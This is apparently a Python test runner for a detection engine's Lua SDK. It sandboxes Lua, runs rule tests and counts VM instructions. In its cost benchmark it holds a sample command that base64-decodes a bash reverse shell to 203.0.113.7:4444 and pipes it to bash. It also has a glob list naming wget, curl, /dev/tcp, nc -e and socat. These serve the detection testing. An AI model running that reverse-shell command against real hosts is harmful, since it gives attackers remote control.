#!/usr/bin/env python3
"""Run the Lua SDK's tests, and the tests embedded in Lua rule files, under
both runtimes Kestrel's Lua host uses (LuaJIT 2.1 with the JIT off, Lua 5.4),
without the host.

    python sdk/lua/tests/run.py                          # library tests
    python sdk/lua/tests/run.py examples/rules/lua       # + the rules' tests
    python sdk/lua/tests/run.py --cost examples/rules/lua  # + VM instruction counts

Code runs in an environment shaped like the host's sandbox (string without
dump, table, math, the listed base functions, nothing else), so a helper that
reaches for os, io, require or load fails here as it would in the host. The
pattern guard and the instruction/memory limits of the host are not
reproduced; --cost reports VM instructions per call instead.

Rule tests: each case starts from a fresh load of the rule file. An event
reaches `match` only if it passes the rule's EQL prefilter, evaluated by
Kestrel's own engine (when `kestrel` is importable; otherwise the prefilter is
skipped and said so). `match` sees only the declared `fields`, flattened by
their dotted names, with `e.a.b` as a view of `e["a.b"]`; `@timestamp` is
integer nanoseconds, 100 ms apart when a test event has none. This is a
stand-in for `kestrel rules test`, which is the reference.
"""
from __future__ import annotations

import argparse
import datetime as _dt
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SDK = os.path.dirname(HERE)
LIB = os.path.join(SDK, "kestrel.lua")
TESTS = os.path.join(HERE, "test_kestrel.lua")

SEVERITIES = {"informational", "low", "medium", "high", "critical"}
TACTICS = {
    "reconnaissance", "resource_development", "initial_access", "execution", "persistence",
    "privilege_escalation", "defense_evasion", "credential_access", "discovery",
    "lateral_movement", "collection", "command_and_control", "exfiltration", "impact",
}
BASE_NS = 1_767_225_600_000_000_000  # 2026-01-01T00:00:00Z

# Lua side: the sandbox environment and a chunk loader for it, plus an
# instruction counter. Runs outside the sandbox (it needs load/debug).
HARNESS = r"""
local H = {}
if jit then jit.off() end

local function copy(t, skip)
  local c = {}
  for k, v in pairs(t) do if k ~= skip then c[k] = v end end
  return c
end

-- The host's pattern guard (kestrel/hosts/lua_prelude.lua): a pattern with
-- two or more repetitions (* + -) is refused when (#s + 1) ^ reps > 2e7.
-- Mirrored so that refusals and the wrapper's cost show up here too.
local s_find, s_match, s_gmatch, s_gsub, s_sub = string.find, string.match, string.gmatch, string.gsub, string.sub
local function check_pattern(s, p)
  if type(p) ~= "string" or type(s) ~= "string" then return end
  local reps, i, n = 0, 1, #p
  while i <= n do
    local c = s_sub(p, i, i)
    if c == "%" then
      i = i + 2
    else
      if c == "*" or c == "+" or c == "-" then reps = reps + 1 end
      i = i + 1
    end
  end
  if reps >= 2 and (#s + 1) ^ reps > 2e7 then
    error("pattern too costly for this subject in the sandbox (" .. reps .. " repetitions on " .. #s .. " bytes)", 2)
  end
end
local safe_string = copy(string, "dump")
safe_string.find = function(s, p, init, plain)
  if not plain then check_pattern(s, p) end
  return s_find(s, p, init, plain)
end
safe_string.match = function(s, p, init) check_pattern(s, p); return s_match(s, p, init) end
safe_string.gmatch = function(s, p) check_pattern(s, p); return s_gmatch(s, p) end
safe_string.gsub = function(s, p, r, n) check_pattern(s, p); return s_gsub(s, p, r, n) end
getmetatable("").__index = safe_string

function H.env()
  return {
    string = safe_string, table = copy(table), math = copy(math),
    pairs = pairs, ipairs = ipairs, next = next, select = select, type = type,
    tostring = tostring, tonumber = tonumber, error = error, assert = assert,
    pcall = pcall, xpcall = xpcall, setmetatable = setmetatable,
    getmetatable = getmetatable, rawget = rawget, rawset = rawset,
    rawequal = rawequal, unpack = table.unpack or unpack,
  }
end

function H.run(env, src, name)
  local f, err
  if setfenv then
    f, err = loadstring(src, "@" .. name)
    if f then setfenv(f, env) end
  else
    f, err = load(src, "@" .. name, "t", env)
  end
  if not f then error(err, 0) end
  return f()
end

-- The SDK installed as the host does: the chunk's table becomes `kestrel`.
function H.sandbox(lib_src, logs)
  local env = H.env()
  local lib = H.run(env, lib_src, "sdk/lua/kestrel.lua")
  assert(type(lib) == "table", "kestrel.lua must return a table")
  lib.log = function(level, msg) logs[#logs + 1] = tostring(level) .. ": " .. tostring(msg) end
  env.kestrel = lib
  return env
end

-- Call f(...) counting VM instructions; returns ok, count, results...
function H.counted(f, ...)
  local n = 0
  debug.sethook(function() n = n + 1 end, "", 1)
  local r = { pcall(f, ...) }
  debug.sethook()
  return r[1], n, r[2], r[3]
end

-- The event view a rule's match receives: flat dotted keys, plus e.a.b.
local function view(flat, prefix)
  return setmetatable({}, { __index = function(_, k)
    if type(k) ~= "string" then return nil end
    local full = prefix .. "." .. k
    local v = flat[full]
    if v ~= nil then return v end
    for name in pairs(flat) do
      if type(name) == "string" and name:sub(1, #full + 1) == full .. "." then
        return view(flat, full)
      end
    end
    return nil
  end })
end

function H.event(flat)
  return setmetatable(flat, { __index = function(t, k)
    if type(k) ~= "string" then return nil end
    for name in pairs(t) do
      if type(name) == "string" and name:sub(1, #k + 1) == k .. "." then
        return view(t, k)
      end
    end
    return nil
  end })
end

return H
"""


def runtimes():
    out = []
    try:
        import lupa.luajit21 as lj
        out.append(("luajit21", lj))
    except ImportError:
        print("warning: lupa.luajit21 not available", file=sys.stderr)
    try:
        import lupa.lua54 as l54
        out.append(("lua54", l54))
    except ImportError:
        print("warning: lupa.lua54 not available", file=sys.stderr)
    if not out:
        sys.exit("lupa with luajit21 or lua54 is required")
    return out


def read(path):
    with open(path, encoding="utf-8") as f:
        return f.read()


# ---------------------------------------------------------------- conversions

def lua_to_py(lupa_mod, v):
    if lupa_mod.lua_type(v) != "table":
        return v
    keys = list(v.keys())
    if keys and all(isinstance(k, int) for k in keys) and sorted(keys) == list(range(1, len(keys) + 1)):
        return [lua_to_py(lupa_mod, v[i]) for i in range(1, len(keys) + 1)]
    if not keys:
        return {}
    return {k: lua_to_py(lupa_mod, x) for k, x in v.items()}


def py_to_lua(rt, v):
    if isinstance(v, dict):
        t = rt.table()
        for k, x in v.items():
            t[k] = py_to_lua(rt, x)
        return t
    if isinstance(v, (list, tuple)):
        t = rt.table()
        for i, x in enumerate(v, 1):
            t[i] = py_to_lua(rt, x)
        return t
    return v


def lookup(event, dotted):
    """Value of a dotted field in a nested event that may also use dotted keys."""
    if dotted in event:
        return event[dotted]
    parts = dotted.split(".")
    for i in range(len(parts) - 1, 0, -1):
        head = ".".join(parts[:i])
        sub = event.get(head)
        if isinstance(sub, dict):
            v = lookup(sub, ".".join(parts[i:]))
            if v is not None:
                return v
    return None


def to_ns(ts):
    try:  # the engine's own reading of timestamps, when importable
        from kestrel.events import to_ns as kestrel_to_ns
        v = kestrel_to_ns(ts)
        if v is not None:
            return v
    except ImportError:
        pass
    if isinstance(ts, (int, float)) and not isinstance(ts, bool):
        return int(ts)
    if isinstance(ts, str):
        d = _dt.datetime.fromisoformat(ts.replace("Z", "+00:00"))
        return int(d.timestamp()) * 1_000_000_000 + d.microsecond * 1000
    raise ValueError(f"bad @timestamp {ts!r}")


# ---------------------------------------------------------------- library tests

def run_library_tests(name, mod):
    rt = mod.LuaRuntime(register_eval=False, unpack_returned_tuples=True)
    H = rt.execute(HARNESS)
    logs = rt.table()
    env = H.sandbox(read(LIB), logs)
    try:
        summary = H.run(env, read(TESTS), "sdk/lua/tests/test_kestrel.lua")
    except mod.LuaError as e:
        print(f"[{name}] library tests FAILED:\n{e}")
        return False
    print(f"[{name}] library: {summary}")
    return True


def library_cost(name, mod):
    rt = mod.LuaRuntime(register_eval=False, unpack_returned_tuples=True)
    H = rt.execute(HARNESS)
    env = H.sandbox(read(LIB), rt.table())
    K = env.kestrel
    cmd = ("bash -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash "
           "# " + "x" * 200)
    big = "A" * 4096
    cases = [
        ("basename", K.basename, ("/usr/lib/x86_64-linux-gnu/libc.so.6",)),
        ("under (normalising)", K.under, ("/var/tmp/../../tmp/.x/payload", "/tmp")),
        ("glob 3 segments", K.glob, ("/home/alice/.ssh/id_ed25519", "/home/*/.ssh/*")),
        ("glob_any 5 patterns, ci", K.glob_any,
         (cmd, rt.table("*wget*", "*curl*", "*/dev/tcp/*", "*nc -e*", "*socat*"), True)),
        ("ip_parse v6", K.ip_parse, ("2001:db8:0:0:1:0:0:1",)),
        ("is_private_ip v4 (public)", K.is_private_ip, ("203.0.113.7",)),
        ("is_private_ip v6 (public)", K.is_private_ip, ("2606:4700::1111",)),
        ("base64_runs 300 B", K.base64_runs, (cmd,)),
        ("base64_decode 56 B", K.base64_decode, ("YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=",)),
        ("base64_decode 4 KiB", K.base64_decode, (big,)),
        ("entropy 300 B", K.entropy, (cmd,)),
        ("entropy 4 KiB", K.entropy, (big,)),
        ("printable_ratio 4 KiB", K.printable_ratio, (big,)),
    ]
    print(f"[{name}] VM instructions per call:")
    for label, f, args in cases:
        ok, cold, _, _ = H.counted(f, *args)
        ok2, warm, _, _ = H.counted(f, *args)
        note = "" if ok and ok2 else "  (error)"
        print(f"    {label:28s} {warm:>8d}  (first call {cold}){note}")


# ---------------------------------------------------------------- rule tests

class Prefilter:
    def __init__(self):
        try:
            from kestrel import Config, Engine  # noqa: F401
            self.available = True
        except Exception:  # pragma: no cover - kestrel not importable
            self.available = False
        self.cache = {}

    def passes(self, query, event):
        """Does the event pass the single-event query? (stateless: one engine per query)"""
        if not self.available:
            return True
        if query not in self.cache:
            from kestrel import Config, Engine
            self.cache[query] = Engine(Config())
            self.cache[query].add_query(query, id="prefilter")
        return bool(self.cache[query].process(event))


def check_meta(rule, where, problems):
    rid = rule.get("id")
    if not isinstance(rid, str) or not rid.startswith("kestrel-lua-"):
        problems.append(f"{where}: id {rid!r} must start with kestrel-lua-")
    if rule.get("severity") not in SEVERITIES:
        problems.append(f"{where}: bad severity {rule.get('severity')!r}")
    tags = rule.get("tags") or []
    if not any(t.startswith("attack.t") and t[8:9].isdigit() for t in tags):
        problems.append(f"{where}: no attack.tNNNN tag")
    if not any(t[len("attack."):] in TACTICS for t in tags if t.startswith("attack.")):
        problems.append(f"{where}: no tactic tag")
    for key in ("name", "description", "prefilter"):
        if not isinstance(rule.get(key), str) or not rule.get(key).strip():
            problems.append(f"{where}: missing {key}")
    if not rule.get("fields"):
        problems.append(f"{where}: no fields")
    tests = rule.get("tests") or []
    if not any(t.get("expect", 0) > 0 for t in tests) or not any(t.get("expect", 1) == 0 for t in tests):
        problems.append(f"{where}: needs an alerting and a near-miss test")


def run_rule_file(name, mod, path, prefilter, cost, problems, verbose=False):
    src = read(path)
    rel = os.path.relpath(path)

    def load():
        rt = mod.LuaRuntime(register_eval=False, unpack_returned_tuples=True)
        H = rt.execute(HARNESS)
        env = H.sandbox(read(LIB), rt.table())
        captured, funcs = [], {}
        env.rule = lambda t: captured.append(t)
        env.func = lambda n, f: funcs.__setitem__(n, f)
        H.run(env, src, rel)
        return rt, H, captured, funcs

    rt, H, captured, funcs = load()
    ok = True
    for ri, lrule in enumerate(captured):
        meta = {k: lua_to_py(mod, lrule[k]) for k in
                ("id", "name", "severity", "tags", "description", "prefilter", "fields", "actions")}
        meta["tests"] = lua_to_py(mod, lrule["tests"]) or []
        where = f"{rel}:{meta['id']}"
        check_meta(meta, where, problems)
        declared = set(meta.get("actions") or ["alert"]) | {"alert"}
        for case in meta["tests"]:
            rt2, H2, cap2, _ = load()  # fresh state per case
            r2 = cap2[ri]
            alerts, costs = 0, []
            for k, ev in enumerate(case.get("events") or []):
                ev = dict(ev) if isinstance(ev, dict) else {}
                if "@timestamp" not in ev:
                    ev["@timestamp"] = BASE_NS + k * 100_000_000
                ev["@timestamp"] = to_ns(ev["@timestamp"])
                if not prefilter.passes(meta["prefilter"], ev):
                    continue
                flat = rt2.table()
                for fld in meta["fields"]:
                    v = lookup(ev, fld)
                    if v is not None:
                        flat[fld] = py_to_lua(rt2, v)
                e = H2.event(flat)
                okc, n, res, err = H2.counted(r2["match"], e)
                costs.append(n)
                if not okc:
                    problems.append(f"[{name}] {where} / {case['name']}: match raised: {res}")
                    continue
                if res is None or res is False:
                    continue
                if mod.lua_type(res) == "table":
                    acts = lua_to_py(mod, res["actions"]) or []
                    if verbose:
                        print(f"        -> {res['reason']} {lua_to_py(mod, res['data'])} actions={acts}")
                    bad = [a for a in acts if a not in declared]
                    if bad:
                        problems.append(f"[{name}] {where} / {case['name']}: undeclared actions {bad}")
                alerts += 1
            status = "ok" if alerts == case.get("expect") else "FAIL"
            if status == "FAIL":
                ok = False
                problems.append(f"[{name}] {where} / {case['name']}: {alerts} alerts, expected {case.get('expect')}")
            extra = f"  (instr/event max {max(costs)})" if cost and costs else ""
            print(f"    [{name}] {status:4s} {meta['id']} / {case['name']}{extra}")
    return ok, funcs, rt


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("paths", nargs="*", help="Lua rule files or directories")
    ap.add_argument("--cost", action="store_true", help="report VM instructions per helper and per event")
    ap.add_argument("-v", "--verbose", action="store_true", help="show each alert's reason, data and actions")
    args = ap.parse_args()

    all_ok = True
    for name, mod in runtimes():
        all_ok &= run_library_tests(name, mod)
        if args.cost:
            library_cost(name, mod)
    if not args.paths:
        return 0 if all_ok else 1

    files = []
    for p in args.paths:
        if os.path.isdir(p):
            files += sorted(os.path.join(p, f) for f in os.listdir(p) if f.endswith(".lua"))
        else:
            files.append(p)
    prefilter = Prefilter()
    if not prefilter.available:
        print("warning: kestrel not importable: prefilters are not evaluated", file=sys.stderr)
    problems = []
    for name, mod in runtimes():
        for f in files:
            try:
                run_rule_file(name, mod, f, prefilter, args.cost, problems, args.verbose)
            except Exception as e:  # a load error
                problems.append(f"[{name}] {f}: {e}")
    for p in problems:
        print("PROBLEM:", p)
    print(f"{len(files)} rule files, {len(problems)} problems")
    return 0 if all_ok and not problems else 1


if __name__ == "__main__":
    sys.exit(main())
